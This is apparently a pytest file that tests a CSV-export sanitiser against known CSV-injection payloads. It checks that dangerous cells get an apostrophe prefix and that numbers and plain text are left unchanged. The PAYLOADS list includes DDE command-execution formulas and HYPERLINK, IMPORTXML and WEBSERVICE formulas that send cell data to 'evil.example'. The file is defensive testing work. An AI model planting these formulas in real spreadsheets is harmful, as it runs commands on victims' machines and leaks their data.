"""The one rule for CSV cells (``schema/csv_cells.py``), against known CSV-injection payloads (OWASP's
list and PayloadsAllTheThings'): every cell a spreadsheet would evaluate gets a leading apostrophe;
real numbers and plain text are written as they are."""

from __future__ import annotations

import csv
import io
import math

import pytest

from trackwell.schema.csv_cells import cell_text, formula_safe
from trackwell.service.tables_csv import csv_lines

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1&B1,"Error: click for details")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "+cmd|' /C calc'!A0",
    "+1+1",
    "-cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-.5+A1",
    "-1.5+A1",
    "-1e3+A1",
    "-inf",
    "-",
    "+",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain tab-led text",
    "\rcarriage-return-led",
    " =1+1",
    "  -1+1+cmd|' /C calc'!A0",
    "\u00a0=1+1",
    "\uff1d1+1",  # full-width = (Excel with East Asian input converts it)
    "\uff0bcmd",
    "\uff0d1+1",
    "\uff20SUM(A1)",
]
KEPT = [
    "-1.5", "+3", "-.5", "1e-3", "-2E+10", "0", "-0", "1.", "NaN", "Infinity", "-Infinity",
    "hello", "a=b", "x -1", "'=already quoted", "%0A-1+1+cmd", "", " 1",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_a_spreadsheet_would_run_is_defused(payload: str) -> None:
    assert formula_safe(payload) == "'" + payload
    assert cell_text(payload) == "'" + payload
    assert cell_text({"_type": "image-file", "path": payload}) == "'" + payload


@pytest.mark.parametrize("text", KEPT)
def test_numbers_and_plain_text_are_written_as_they_are(text: str) -> None:
    assert formula_safe(text) == text


def test_values_become_cell_text() -> None:
    assert [cell_text(v) for v in (None, True, False, 3, -1.5, 2.0, 1e20, math.nan, -math.inf)] == [
        "", "true", "false", "3", "-1.5", "2", "1e+20", "NaN", "-Infinity",
    ]  # fmt: skip
    assert cell_text({"_type": "image-file", "caption": "a cat"}) == "a cat"
    assert cell_text({"_type": "audio-file"}) == "[audio-file]"
    assert cell_text({"a": [1, "=x"]}) == '{"a":[1,"=x"]}'
    assert cell_text(["=1+1"]) == '["=1+1"]'
    assert cell_text([]) == "[]"


def test_a_whole_csv_reads_back_defused_with_headers_too() -> None:
    text = "".join(csv_lines(["=name", "value"], [[[p, -1.5] for p in PAYLOADS], [["ok", None]]]))
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert lines[0] == ["'=name", "value"]
    assert lines[1:] == [["'" + p, "-1.5"] for p in PAYLOADS] + [["ok", ""]]
    assert text.endswith("\r\n")
